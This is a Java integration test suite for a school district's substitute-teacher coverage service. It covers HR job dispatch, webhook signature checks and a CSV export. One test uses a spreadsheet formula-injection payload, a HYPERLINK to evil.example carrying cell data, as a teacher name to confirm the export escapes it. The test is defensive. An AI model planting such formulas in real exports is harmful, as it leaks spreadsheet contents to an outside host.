package org.studioresidency.session.coverage;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.standardwebhooks.Webhook;
import io.quarkus.narayana.jta.QuarkusTransaction;
import io.quarkus.test.common.QuarkusTestResource;
import io.quarkus.test.common.http.TestHTTPResource;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.http.ContentType;
import io.restassured.response.Response;
import jakarta.inject.Inject;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.studioresidency.local.HrSandbox;
import org.studioresidency.local.TestInfrastructure;
import org.studioresidency.session.DistrictFixture;
import org.studioresidency.session.IfMatch;
import org.studioresidency.session.domain.HrDispatch;
import org.studioresidency.session.event.EventShapes;
import org.studioresidency.session.service.CoverageWatch;
import org.studioresidency.session.service.HrDispatcher;
import org.studioresidency.session.service.PairingService;
import org.studioresidency.session.service.SchoolYearService;

import java.net.URL;
import java.time.Duration;
import java.time.Instant;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.UUID;

import static io.restassured.RestAssured.given;
import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;
import static org.hamcrest.Matchers.containsString;
import static org.hamcrest.Matchers.equalTo;

@QuarkusTest
@QuarkusTestResource(value = HrSandboxResource.class, restrictToAnnotatedClass = true)
class CoverageTest {

    private static final String ADMIN = TestInfrastructure.token("district-admin");
    private static final String HR = TestInfrastructure.token("hr-system");
    private static final String RANGE = "from=2026-08-31&to=2027-06-11";

    HrSandbox sandbox;

    @TestHTTPResource("/hr/callbacks")
    URL callbacks;

    @Inject
    SchoolYearService schoolYears;
    @Inject
    PairingService pairings;
    @Inject
    HrDispatcher dispatcher;
    @Inject
    CoverageWatch coverage;

    private DistrictFixture district;
    private DistrictFixture.Pairing garfield;
    private DistrictFixture.Pairing roosevelt;

    @BeforeEach
    void district() {
        sandbox.callbackUrl(callbacks.toString());
        sandbox.mode(HrSandbox.Mode.NORMAL);
        sandbox.fillRate(1.0, 200);
        district = new DistrictFixture(schoolYears, pairings);
        garfield = district.pairing("Garfield Elementary", DistrictFixture.consultant("Dr. Helen Ward"));
        roosevelt = district.pairing("Roosevelt Elementary", DistrictFixture.consultant("Dr. Ana Ruiz"));
    }

    @Test
    void shouldRequestASubstituteForEachReleasedTeacherWhenASessionIsPublishedAndRecordTheSubstituteTheHrSystemFound() {
        String session = create(garfield, "2027-01-05", "AM");

        List<Map<String, Object>> pending = requests(session);
        assertThat(pending).extracting(r -> (Object) ((Map<?, ?>) r.get("teacher")).get("name"))
                .containsExactlyInAnyOrder("Studio teacher of Garfield Elementary", "Residency teacher visiting Garfield Elementary");
        assertThat(pending).extracting(r -> r.get("status")).containsOnly("PENDING");

        awaitStatuses(session, "FILLED");
        List<Map<String, Object>> filled = requests(session);
        assertThat(filled).allSatisfy(r -> assertThat(((Map<?, ?>) r.get("substitute")).get("name")).isNotNull());
        String requestId = (String) filled.get(0).get("coverageRequestId");
        assertThat(jobsFor(requestId)).hasSize(1);
        assertThat(jobsFor(requestId).get(0).path("halfDay").asText()).isEqualTo("AM");
        assertThat(jobsFor(requestId).get(0).path("units").asDouble()).isEqualTo(0.5);
        for (String type : List.of("district.coverage.requested.v1", "district.coverage.filled.v1")) {
            JsonNode event = EventShapes.coverage(requestId, type);
            EventShapes.assertSameFieldsAsExample(event, type);
            assertThat(event.at("/data/sessionId").asText()).isEqualTo(session);
        }
    }

    @Test
    void shouldMoveTheHrJobWhenTheSessionIsRescheduledAndCancelItWhenTheSessionIsCancelled() {
        sandbox.fillRate(1.0, 60_000);
        String session = create(garfield, "2027-01-12", "AM");
        awaitStatuses(session, "REQUESTED");
        String requestId = (String) requests(session).get(0).get("coverageRequestId");
        String jobId = (String) requests(session).get(0).get("hrJobId");

        given().auth().oauth2(ADMIN).contentType(ContentType.JSON).body("{\"date\":\"2027-01-13\",\"halfDay\":\"PM\"}")
                .header("If-Match", IfMatch.session(session)).put("/sessions/" + session + "/slot").then().statusCode(200);
        assertThat(requests(session)).extracting(r -> r.get("date")).containsOnly("2027-01-13");
        awaitStatuses(session, "REQUESTED");
        ObjectNode job = jobsFor(requestId).get(0);
        assertThat(job.path("jobId").asText()).isEqualTo(jobId);
        assertThat(job.path("date").asText()).isEqualTo("2027-01-13");
        assertThat(job.path("halfDay").asText()).isEqualTo("PM");

        given().auth().oauth2(ADMIN).contentType(ContentType.JSON).body("{\"reason\":\"Testing window moved\"}")
                .header("If-Match", IfMatch.session(session)).post("/sessions/" + session + "/cancellation").then().statusCode(200);
        assertThat(requests(session)).extracting(r -> r.get("status")).containsOnly("CANCELLED");
        await().atMost(Duration.ofSeconds(30)).untilAsserted(() -> {
            dispatcher.dispatchDue();
            assertThat(jobsFor(requestId).get(0).path("status").asText()).isEqualTo("CANCELLED");
        });
        EventShapes.assertSameFieldsAsExample(EventShapes.coverage(requestId, "district.coverage.cancelled.v1"), "district.coverage.cancelled.v1");
    }

    @Test
    void shouldAddAndCancelRequestsWhenThePairingTeamChanges() {
        String session = create(garfield, "2027-01-19", "AM");
        List<PairingService.Member> team = new ArrayList<>(garfield.team());
        PairingService.Member leaving = team.stream().filter(m -> m.teamRole().equals("RESIDENCY_TEACHER")).findFirst().orElseThrow();
        team.remove(leaving);
        team.add(DistrictFixture.member("New residency teacher", "TEACHER", garfield.residencySchoolId(), "RESIDENCY_TEACHER"));
        district.changeTeam(garfield, 2, team);

        List<Map<String, Object>> all = requests(session);
        assertThat(all).filteredOn(r -> !r.get("status").equals("CANCELLED"))
                .extracting(r -> (Object) ((Map<?, ?>) r.get("teacher")).get("name"))
                .containsExactlyInAnyOrder("Studio teacher of Garfield Elementary", "New residency teacher");
        assertThat(all).filteredOn(r -> r.get("status").equals("CANCELLED"))
                .extracting(r -> (Object) ((Map<?, ?>) r.get("teacher")).get("staffId")).containsExactly(leaving.staffId().toString());
    }

    @Test
    void shouldNeverRequestMoreSubstitutesOnADateThanTheDailyCapTheSchedulerRespects() {
        given().auth().oauth2(ADMIN).contentType(ContentType.JSON).body("{\"cap\":2}")
                .put("/settings/substitute-caps/2027-04-20").then().statusCode(204);
        create(garfield, "2027-04-20", "AM");

        given().auth().oauth2(ADMIN).contentType(ContentType.JSON)
                .body("{\"pairingId\":\"" + roosevelt.pairingId() + "\",\"date\":\"2027-04-20\",\"halfDay\":\"PM\"}")
                .post("/sessions").then().statusCode(409);

        List<Map<String, Object>> onDate = given().auth().oauth2(ADMIN).get("/coverage/requests?from=2027-04-20&to=2027-04-20")
                .then().statusCode(200).extract().jsonPath().getList("$");
        assertThat(onDate.stream().filter(r -> !r.get("status").equals("CANCELLED")).count()).isEqualTo(2);
    }

    @Test
    void shouldMarkARequestUnfilledAndTheSessionAtRiskOnceWhenNoSubstituteIsFoundDaysBefore() {
        sandbox.fillRate(0.0, 100);
        String session = create(garfield, "2027-02-02", "PM");
        awaitStatuses(session, "UNFILLED");

        assertThat(coverage.checkAtRisk(LocalDate.of(2027, 1, 30))).isEqualTo(2);
        assertThat(coverage.checkAtRisk(LocalDate.of(2027, 1, 31))).isZero();
        given().auth().oauth2(ADMIN).get("/sessions/" + session).then().statusCode(200).body("coverageAtRisk", equalTo(true));
        String requestId = (String) requests(session).get(0).get("coverageRequestId");
        JsonNode atRisk = EventShapes.coverage(requestId, "district.coverage.at-risk.v1");
        EventShapes.assertSameFieldsAsExample(atRisk, "district.coverage.at-risk.v1");
        assertThat(atRisk.at("/data/daysBefore").asInt()).isEqualTo(3);
        EventShapes.assertSameFieldsAsExample(EventShapes.coverage(requestId, "district.coverage.unfilled.v1"), "district.coverage.unfilled.v1");
    }

    @Test
    void shouldDeliverEveryRequestExactlyOnceAfterTheHrSystemWasDownOrAnsweredWithErrors() {
        sandbox.mode(HrSandbox.Mode.DOWN);
        String first = create(garfield, "2027-02-09", "AM");
        dispatcher.dispatchDue();
        sandbox.mode(HrSandbox.Mode.ERROR);
        String second = create(roosevelt, "2027-02-09", "PM");
        dispatcher.dispatchDue();

        List<String> ids = new ArrayList<>();
        requests(first).forEach(r -> ids.add((String) r.get("coverageRequestId")));
        requests(second).forEach(r -> ids.add((String) r.get("coverageRequestId")));
        assertThat(ids).hasSize(4);
        assertThat(ids).allSatisfy(id -> assertThat(jobsFor(id)).isEmpty());
        assertThat(QuarkusTransaction.requiringNew().call(() -> HrDispatch.count("coverageRequestId in ?1 and attempts > 0 and sentAt is null",
                ids.stream().map(UUID::fromString).toList()))).isPositive();

        sandbox.mode(HrSandbox.Mode.NORMAL);
        awaitStatuses(first, "FILLED");
        awaitStatuses(second, "FILLED");
        assertThat(ids).allSatisfy(id -> assertThat(jobsFor(id)).hasSize(1));
    }

    @Test
    void shouldNotCreateASecondJobWhenASlowHrAnswerTimedOutAndTheCallIsRepeated() {
        sandbox.mode(HrSandbox.Mode.SLOW);
        String session = create(garfield, "2027-02-16", "AM");
        dispatcher.dispatchDue();
        assertThat(requests(session)).extracting(r -> r.get("status")).containsOnly("PENDING");

        sandbox.mode(HrSandbox.Mode.NORMAL);
        awaitStatuses(session, "FILLED");
        requests(session).forEach(r -> assertThat(jobsFor((String) r.get("coverageRequestId"))).hasSize(1));
    }

    @Test
    void shouldRejectCallbacksWithoutOrWithABadSignatureOrAStaleTimestamp() throws Exception {
        String body = callbackBody(UUID.randomUUID().toString(), "J-X", "FILLED");
        given().contentType(ContentType.JSON).body(body).post("/hr/callbacks")
                .then().statusCode(401).contentType("application/problem+json").body("detail", containsString("webhook-signature"));

        String id = "msg_" + UUID.randomUUID();
        long now = Instant.now().getEpochSecond();
        given().contentType(ContentType.JSON).body(body).header("webhook-id", id).header("webhook-timestamp", String.valueOf(now))
                .header("webhook-signature", new Webhook("whsec_" + "d3Jvbmctc2VjcmV0LXdyb25nLXNlY3JldA==").sign(id, now, body))
                .post("/hr/callbacks").then().statusCode(401).contentType("application/problem+json");

        long stale = now - 6 * 60;
        given().contentType(ContentType.JSON).body(body).header("webhook-id", id).header("webhook-timestamp", String.valueOf(stale))
                .header("webhook-signature", new Webhook(HrSandboxResource.CURRENT_SECRET).sign(id, stale, body))
                .post("/hr/callbacks").then().statusCode(401).contentType("application/problem+json");

        given().contentType(ContentType.JSON).body(body + " ").header("webhook-id", id).header("webhook-timestamp", String.valueOf(now))
                .header("webhook-signature", new Webhook(HrSandboxResource.CURRENT_SECRET).sign(id, now, body))
                .post("/hr/callbacks").then().statusCode(401);
    }

    @Test
    void shouldApplyAReplayedWebhookIdOnceAndAcceptTheRotatedSecretAndAnHrSystemToken() throws Exception {
        sandbox.fillRate(1.0, 60_000);
        String session = create(garfield, "2027-02-23", "AM");
        awaitStatuses(session, "REQUESTED");
        Map<String, Object> request = requests(session).get(0);
        String requestId = (String) request.get("coverageRequestId");
        String jobId = (String) request.get("hrJobId");

        String id = "msg_" + UUID.randomUUID();
        String filled = callbackBody(requestId, jobId, "FILLED");
        signed(id, filled, HrSandboxResource.PREVIOUS_SECRET).auth().oauth2(HR).post("/hr/callbacks").then().statusCode(204);
        assertThat(statusOf(session, requestId)).isEqualTo("FILLED");

        signed(id, callbackBody(requestId, jobId, "UNFILLED"), HrSandboxResource.CURRENT_SECRET).post("/hr/callbacks").then().statusCode(204);
        signed(id, filled, HrSandboxResource.CURRENT_SECRET).post("/hr/callbacks").then().statusCode(204);
        assertThat(statusOf(session, requestId)).isEqualTo("FILLED");
    }

    @Test
    void shouldCancelARequestWhenTheHrSystemCancelsItsJobAndIgnoreLaterNewsAboutIt() throws Exception {
        sandbox.fillRate(1.0, 60_000);
        String session = create(garfield, "2027-03-23", "PM");
        awaitStatuses(session, "REQUESTED");
        Map<String, Object> request = requests(session).get(0);
        String requestId = (String) request.get("coverageRequestId");
        String jobId = (String) request.get("hrJobId");

        signed("msg_" + UUID.randomUUID(), callbackBody(requestId, jobId, "CANCELLED"), HrSandboxResource.CURRENT_SECRET)
                .post("/hr/callbacks").then().statusCode(204);
        signed("msg_" + UUID.randomUUID(), callbackBody(requestId, jobId, "FILLED"), HrSandboxResource.CURRENT_SECRET)
                .post("/hr/callbacks").then().statusCode(204);

        assertThat(statusOf(session, requestId)).isEqualTo("CANCELLED");
        assertThat(EventShapes.coverage(requestId, "district.coverage.cancelled.v1").at("/data/status").asText()).isEqualTo("CANCELLED");
        signed("msg_" + UUID.randomUUID(), callbackBody(UUID.randomUUID().toString(), "J-UNKNOWN", "FILLED"), HrSandboxResource.CURRENT_SECRET)
                .post("/hr/callbacks").then().statusCode(404).contentType("application/problem+json");
        signed("msg_" + UUID.randomUUID(), "{\"status\":\"FILLED\"}", HrSandboxResource.CURRENT_SECRET)
                .post("/hr/callbacks").then().statusCode(400).contentType("application/problem+json").body("errors[0].field", equalTo("externalId"));
    }

    @Test
    void shouldExportAbsenceJobsAsTheSameCsvBytesEachTimeWithHalfDayAndUnits() {
        sandbox.fillRate(1.0, 60_000);
        String session = create(garfield, "2027-03-02", "PM");
        awaitStatuses(session, "REQUESTED");

        Response first = given().auth().oauth2(HR).get("/coverage/export?from=2027-03-02&to=2027-03-02");
        first.then().statusCode(200).contentType(containsString("text/csv"));
        byte[] again = given().auth().oauth2(ADMIN).get("/coverage/export?from=2027-03-02&to=2027-03-02").then().statusCode(200)
                .extract().asByteArray();
        assertThat(again).isEqualTo(first.asByteArray());
        String[] lines = first.asString().split("\r\n");
        assertThat(lines[0]).isEqualTo("external_id,employee_id,employee_name,employee_email,school_id,date,half_day,start_time,end_time,units,reason_code,status,hr_job_id");
        assertThat(lines).filteredOn(l -> l.contains("Garfield")).hasSize(2)
                .allSatisfy(l -> assertThat(l).contains(",2027-03-02,PM,12:30,15:15,0.5,PD-STUDIO,REQUESTED,"));

        given().auth().oauth2(TestInfrastructure.principalToken(garfield.studioSchoolId().toString())).get("/coverage/export?from=2027-03-02&to=2027-03-02")
                .then().statusCode(403);
        given().auth().oauth2(ADMIN).get("/coverage/export?from=2027-03-02").then().statusCode(400).contentType("application/problem+json");
    }

    @Test
    void shouldExportATeacherNamedLikeAFormulaAsTextNotAFormula() {
        sandbox.fillRate(1.0, 60_000);
        String formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")";
        DistrictFixture.Pairing lincoln = district.pairing("Lincoln Elementary", DistrictFixture.consultant("Dr. Ira Cole"),
                DistrictFixture.member(formula, "TEACHER", UUID.randomUUID(), "RESIDENCY_TEACHER"));
        String session = create(lincoln, "2027-04-06", "AM");
        awaitStatuses(session, "REQUESTED");

        String csv = given().auth().oauth2(HR).get("/coverage/export?from=2027-04-06&to=2027-04-06").then().statusCode(200).extract().asString();

        assertThat(csv.split("\r\n")).filteredOn(l -> l.contains("HYPERLINK")).singleElement()
                .satisfies(l -> assertThat(l).contains(",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Open\"\")\",")
                        .doesNotContain(",=HYPERLINK").doesNotContain(",\"=HYPERLINK"));
    }

    @Test
    void shouldShowAPrincipalOnlyTheirTeachersCoverageAndTheDistrictItsFillRate() {
        sandbox.fillRate(1.0, 60_000);
        String session = create(garfield, "2027-03-09", "AM");
        awaitStatuses(session, "REQUESTED");

        List<Map<String, Object>> seen = given().auth().oauth2(TestInfrastructure.principalToken(garfield.studioSchoolId().toString()))
                .get("/coverage/requests?" + RANGE + "&sessionId=" + session).then().statusCode(200).extract().jsonPath().getList("$");
        assertThat(seen).extracting(r -> (Object) ((Map<?, ?>) r.get("teacher")).get("name")).containsExactly("Studio teacher of Garfield Elementary");
        given().auth().oauth2(HR).get("/coverage/requests?" + RANGE).then().statusCode(403);

        given().auth().oauth2(ADMIN).get("/coverage/fill-rate?from=2027-03-08&to=2027-03-12&by=WEEK").then().statusCode(200)
                .body("find { it.key == '2027-W10' }.requested", org.hamcrest.Matchers.greaterThanOrEqualTo(2));
        given().auth().oauth2(ADMIN).get("/coverage/fill-rate?from=2027-03-09&to=2027-03-09&by=SCHOOL").then().statusCode(200)
                .body("find { it.key == '" + garfield.studioSchoolId() + "' }.requested", equalTo(1))
                .body("find { it.key == '" + garfield.studioSchoolId() + "' }.fillRate", equalTo(0.0f));
        given().auth().oauth2(ADMIN).get("/coverage/fill-rate?from=2027-03-09&to=2027-03-09&by=MONTH").then().statusCode(400)
                .contentType("application/problem+json");
    }

    private String create(DistrictFixture.Pairing pairing, String date, String halfDay) {
        return given().auth().oauth2(ADMIN).contentType(ContentType.JSON)
                .body("{\"pairingId\":\"" + pairing.pairingId() + "\",\"date\":\"" + date + "\",\"halfDay\":\"" + halfDay + "\"}")
                .post("/sessions").then().statusCode(201).extract().path("sessionId");
    }

    private List<Map<String, Object>> requests(String session) {
        return given().auth().oauth2(ADMIN).get("/coverage/requests?" + RANGE + "&sessionId=" + session)
                .then().statusCode(200).extract().jsonPath().getList("$");
    }

    private String statusOf(String session, String requestId) {
        return requests(session).stream().filter(r -> requestId.equals(r.get("coverageRequestId"))).map(r -> (String) r.get("status"))
                .findFirst().orElseThrow();
    }

    private void awaitStatuses(String session, String status) {
        await().atMost(Duration.ofSeconds(45)).pollInterval(Duration.ofMillis(300)).untilAsserted(() -> {
            dispatcher.dispatchDue();
            assertThat(requests(session)).extracting(r -> r.get("status")).containsOnly(status);
        });
    }

    private List<ObjectNode> jobsFor(String requestId) {
        return sandbox.jobs().values().stream().filter(j -> requestId.equals(j.path("externalId").asText())).toList();
    }

    private static String callbackBody(String externalId, String jobId, String status) {
        return "{\"type\":\"absence-job." + status.toLowerCase() + "\",\"jobId\":\"" + jobId + "\",\"externalId\":\"" + externalId
                + "\",\"status\":\"" + status + "\",\"substitute\":" + ("FILLED".equals(status) ? "{\"id\":\"SUB-1\",\"name\":\"Jordan Blake\"}" : "null")
                + ",\"occurredAt\":\"" + Instant.now() + "\"}";
    }

    private static io.restassured.specification.RequestSpecification signed(String id, String body, String secret) throws Exception {
        long now = Instant.now().getEpochSecond();
        return given().contentType(ContentType.JSON).body(body).header("webhook-id", id).header("webhook-timestamp", String.valueOf(now))
                .header("webhook-signature", new Webhook(secret).sign(id, now, body));
    }
}
